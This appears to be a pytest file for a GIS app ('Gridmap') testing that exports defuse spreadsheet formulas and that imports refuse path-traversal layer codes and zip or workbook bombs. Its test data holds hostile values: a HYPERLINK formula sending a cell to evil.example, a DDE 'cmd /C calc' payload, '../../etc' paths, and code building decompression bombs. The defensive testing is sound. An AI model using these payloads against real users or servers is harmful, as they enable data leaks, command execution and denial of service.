"""Imports and exports that cannot be turned against their users (issue 15, items 2, 5 and 6).

- a grid named like a spreadsheet formula leaves as text in every CSV and XLSX, and comes back
  exactly when Gridmap imports the file again;
- a layer code that is not a code (``../../etc``) is refused at the edge, and nothing is created
  or written;
- a decompression bomb (a zip or workbook that unpacks to far more than it weighs) or a file
  with too many rows is refused before it is unpacked, naming the limit.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Connection, text
from typer.testing import CliRunner

from gis.access import Access
from gis.errors import Invalid, TooLarge
from gis.exchange import ImportOptions, import_file
from gis.exchange.readers import read_source
from gis.infra.settings import ImportLimits
from gis.spreadsheet import defused, restored
from gridmap_cli.main import app as cli_app
from tests.exchange_files import DATA, U5_POINT, units_frame
from tests.tiny_city import COMMUNITY_A, COMMUNITY_B

HOSTILE = {
    f"{COMMUNITY_A}001": '=HYPERLINK("http://evil.example/?leak="&A1,"点我 click")',
    f"{COMMUNITY_A}002": "@SUM(1+1)*cmd|' /C calc'!A0",
    f"{COMMUNITY_B}001": "+1-1\t-'=x",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
SYSTEM = "system:tests"
U5_LON, U5_LAT = U5_POINT.x, U5_POINT.y


def _rename(conn: Connection) -> None:
    for code, name in HOSTILE.items():
        conn.execute(
            text(
                "UPDATE grid SET name = :n WHERE code = :c "
                "AND layer_id = (SELECT id FROM grid_layer WHERE code = 'unified')"
            ),
            {"n": name, "c": code},
        )


# ----------------------------------------------------------------------------- formulas


@given(st.text(alphabet="'=+-@\t\r a1(", max_size=8))
def test_defusing_is_undone_exactly(value: str) -> None:
    out = defused(value)
    assert not str(out).startswith(FORMULA_START)
    assert restored(out) == value


def test_a_layer_export_never_writes_a_formula_and_round_trips(
    client_as, conn: Connection, tmp_path: Path
) -> None:
    _rename(conn)
    client = client_as("t-admin")
    xlsx = client.get("/layers/unified/export", params={"format": "xlsx"})
    assert xlsx.status_code == 200, xlsx.text
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    sheet = book["网格 Grids"]
    header = [c.value for c in sheet[1]]
    names = {r[0]: r[header.index("name")] for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert all(not str(v).startswith(FORMULA_START) for v in names.values())

    answer = client.get("/layers/unified/export", params={"format": "csv"})
    assert answer.content.startswith(b"\xef\xbb\xbf")  # Excel reads the Chinese right
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert not [v for row in rows for v in row if v.startswith(FORMULA_START)]

    # Gridmap's own import gives back exactly what left, from either file.
    for fmt, data in (("csv", answer.content), ("xlsx", xlsx.content)):
        path = tmp_path / f"unified.{fmt}"
        path.write_bytes(data)
        frame = read_source(path, lon_column="lon" if fmt == "xlsx" else None).frame
        assert dict(zip(frame["code"], frame["name"], strict=True)) == HOSTILE, fmt
    report = import_file(
        conn,
        "layer",
        tmp_path / "unified.csv",
        ImportOptions(layer="rt"),
        access=Access.system(SYSTEM),
    )
    assert report.ok
    stored = conn.execute(
        text(
            "SELECT g.code, g.name FROM grid g JOIN grid_layer l ON l.id = g.layer_id "
            "WHERE l.code = 'rt'"
        )
    ).all()
    assert dict(stored) == HOSTILE


def test_every_other_export_defuses_too(client_as, conn: Connection) -> None:
    _rename(conn)
    conn.execute(text("UPDATE party_member SET name = :n"), {"n": '=HYPERLINK("http://x","y")'})
    client = client_as("root")
    for fmt in ("csv", "xlsx"):
        answer = client.get("/party/assignments/export", params={"format": fmt})
        assert answer.status_code == 200, answer.text
        if fmt == "xlsx":
            book = openpyxl.load_workbook(io.BytesIO(answer.content))
            assert not [
                c for s in book.worksheets for row in s.iter_rows() for c in row
                if c.data_type == "f"
            ]  # fmt: skip
        else:
            body = answer.content.decode("utf-8-sig")
            assert not [v for r in csv.reader(io.StringIO(body)) for v in r if v.startswith("=")]


# ----------------------------------------------------------------------------- codes


def test_an_import_with_a_path_for_a_layer_code_is_refused(client_as, conn: Connection) -> None:
    before = conn.execute(text("SELECT count(*) FROM grid_layer")).scalar()
    client = client_as("t-admin")
    for code in ("../../etc", "a/b", "x\ny", "=1+1", "", "中文图层"):
        form = {"kind": "layer", "options": json.dumps({"layer": code})}
        answer = client.post(
            "/imports", files={"file": ("l.zip", (DATA / "layer_gbk.zip").read_bytes())}, data=form
        )
        assert answer.status_code == 422, (code, answer.text)
        assert answer.headers["content-type"].startswith("application/problem+json")
        if code:
            assert "layer code" in answer.json()["detail"], answer.text
    assert conn.execute(text("SELECT count(*) FROM grid_layer")).scalar() == before
    assert client.get("/layers/..%2Fetc/export").status_code in (404, 422)
    assert client.get("/layers/bad code!/export").status_code == 422
    assert client.get("/layers/x%0Ay/check").status_code == 422


def test_the_cli_refuses_a_path_for_a_layer_and_writes_nothing(
    engine, pg_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GRIDMAP_DATABASE_URL", pg_url)
    monkeypatch.setenv("GRIDMAP_DATA_DIR", str(tmp_path / "data"))
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    cli = CliRunner()
    with engine.begin() as c:  # as the import before the fix let anyone create it
        c.execute(
            text(
                "INSERT INTO grid_layer (code, name, kind) VALUES ('../../etc', 'x', 'department')"
            )
        )
    try:
        done = cli.invoke(cli_app, ["export", "../../etc", "--format", "csv", "--out", "."])
    finally:
        with engine.begin() as c:
            c.execute(text("DELETE FROM grid_layer WHERE code = '../../etc'"))
    assert done.exit_code == 2, done.output
    assert "layer code" in done.output
    imported = cli.invoke(
        cli_app, ["import", "layer", str(DATA / "layer_gbk.zip"), "--layer", "../x", "--check"]
    )
    assert imported.exit_code == 2, imported.output
    assert [p.name for p in tmp_path.rglob("*") if p.is_file()] == []


# ----------------------------------------------------------------------------- bombs


def _zip(path: Path, members: dict[str, int | bytes]) -> Path:
    """A zip whose members are given bytes, or that many zero bytes (streamed, small on disk)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in members.items():
            if isinstance(content, bytes):
                archive.writestr(name, content)
                continue
            with archive.open(name, "w", force_zip64=True) as out:
                chunk = bytes(1 << 20)
                for _ in range(content >> 20):
                    out.write(chunk)
    return path


def _shapefile_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(DATA / "layer_gbk.zip") as archive:
        return {m: archive.read(m) for m in archive.namelist()}


def test_a_zip_bomb_is_refused_before_it_is_unpacked(
    client_as, conn: Connection, tmp_path: Path
) -> None:
    client = client_as("t-admin")
    parts = _shapefile_parts()
    dbf = next(name for name in parts if name.lower().endswith(".dbf"))
    bomb = _zip(tmp_path / "bomb.zip", {**parts, dbf: 300 << 20})  # 300 MiB of zeros
    assert bomb.stat().st_size < 1 << 20
    form = {"kind": "layer", "options": json.dumps({"layer": "bomb"})}
    answer = client.post("/imports", files={"file": ("bomb.zip", bomb.read_bytes())}, data=form)
    assert answer.status_code == 413, answer.text
    assert "GRIDMAP_IMPORT_MAX_UNCOMPRESSED_BYTES" in answer.json()["detail"]

    ratio = _zip(tmp_path / "ratio.zip", {**parts, dbf: 16 << 20})  # within size, ~1000:1
    answer = client.post("/imports", files={"file": ("ratio.zip", ratio.read_bytes())}, data=form)
    assert answer.status_code == 413, answer.text
    assert "GRIDMAP_IMPORT_MAX_RATIO" in answer.json()["detail"]

    many = _zip(tmp_path / "many.zip", {**parts, **{f"pad/{i}.txt": b"" for i in range(1001)}})
    answer = client.post("/imports", files={"file": ("many.zip", many.read_bytes())}, data=form)
    assert answer.status_code == 413 and "MAX_MEMBERS" in answer.json()["detail"]
    assert conn.execute(text("SELECT count(*) FROM grid_layer WHERE code = 'bomb'")).scalar() == 0


def test_a_workbook_bomb_is_refused_before_it_is_parsed(client_as, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["code", "name", "lon", "lat"])
    small = tmp_path / "small.xlsx"
    book.save(small)
    # The same workbook with a sheet of 40 MiB of empty rows: tiny packed, a minute to parse.
    with zipfile.ZipFile(small) as archive:
        parts = {m: archive.read(m) for m in archive.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    head, tail = parts[sheet].split(b"</sheetData>")
    rows = b"<row><c t='inlineStr'><is><t>x</t></is></c></row>" * (40 * 1024 * 1024 // 50)
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for name, data in parts.items():
            out.writestr(name, head + rows + b"</sheetData>" + tail if name == sheet else data)
    assert bomb.stat().st_size < 1 << 20
    answer = client_as("root").post(
        "/imports", files={"file": ("bomb.xlsx", bomb.read_bytes())}, data={"kind": "buildings"}
    )
    assert answer.status_code == 413, answer.text
    assert "MAX_RATIO" in answer.json()["detail"]


def test_rows_and_time_have_limits(conn: Connection, tmp_path: Path) -> None:
    frame = units_frame()
    path = tmp_path / "units.csv"
    frame.assign(wkt=frame.geometry.to_wkt()).drop(columns="geometry").to_csv(path, index=False)
    with pytest.raises(TooLarge, match="more than 5 rows.*GRIDMAP_IMPORT_MAX_ROWS"):
        import_file(
            conn, "units", path, limits=ImportLimits(max_rows=5), access=Access.system(SYSTEM)
        )
    book = openpyxl.Workbook()
    book.active.append(["code", "lon", "lat"])
    for n in range(20):
        book.active.append([f"B{n}", 116.0, 27.0])
    xlsx = tmp_path / "b.xlsx"
    book.save(xlsx)
    with pytest.raises(TooLarge, match="GRIDMAP_IMPORT_MAX_ROWS"):
        import_file(
            conn, "buildings", xlsx, limits=ImportLimits(max_rows=10), access=Access.system(SYSTEM)
        )
    with pytest.raises(Invalid, match="GRIDMAP_IMPORT_MAX_SECONDS") as caught:
        import_file(
            conn, "units", path, limits=ImportLimits(max_seconds=1e-9), access=Access.system(SYSTEM)
        )
    assert caught.value.status == 422
    assert import_file(
        conn, "units", path, check=True, access=Access.system(SYSTEM)
    ).ok  # the defaults let it in


# ----------------------------------------------------------------------------- one incident import


def test_incidents_imported_as_geodata_are_written_like_every_imported_incident(
    conn: Connection, tmp_path: Path
) -> None:
    """The exchange's ``incidents`` kind writes through the one incident import: workflow times
    only as the file gives them (none are made up), a history row each, unknown categories named."""
    path = tmp_path / "incidents.csv"
    path.write_text(
        "code,category,reported_at,state,lon,lat\n"
        f"XS001,环境卫生,2025-05-01 08:30,signed,{U5_LON},{U5_LAT}\n",
        encoding="utf-8",
    )
    report = import_file(conn, "incidents", path, access=Access.system(SYSTEM))
    assert report.written["incident inserted"] == 1
    row = conn.execute(
        text(
            "SELECT i.dispatched_at, i.signed_at, i.source, count(t.id) FROM incident i "
            "JOIN incident_transition t ON t.incident_id = i.id AND t.action = 'import' "
            "WHERE i.code = 'XS001' GROUP BY i.id"
        )
    ).one()
    assert tuple(row) == (None, None, "import", 1)

    path.write_text(
        f"code,category,reported_at,lon,lat\nXS002,外星人,2025-05-01 08:30,{U5_LON},{U5_LAT}\n",
        encoding="utf-8",
    )
    report = import_file(conn, "incidents", path, check=True, access=Access.system(SYSTEM))
    assert [(e.row, e.reason) for e in report.errors] == [(2, "unknown category '外星人'")]
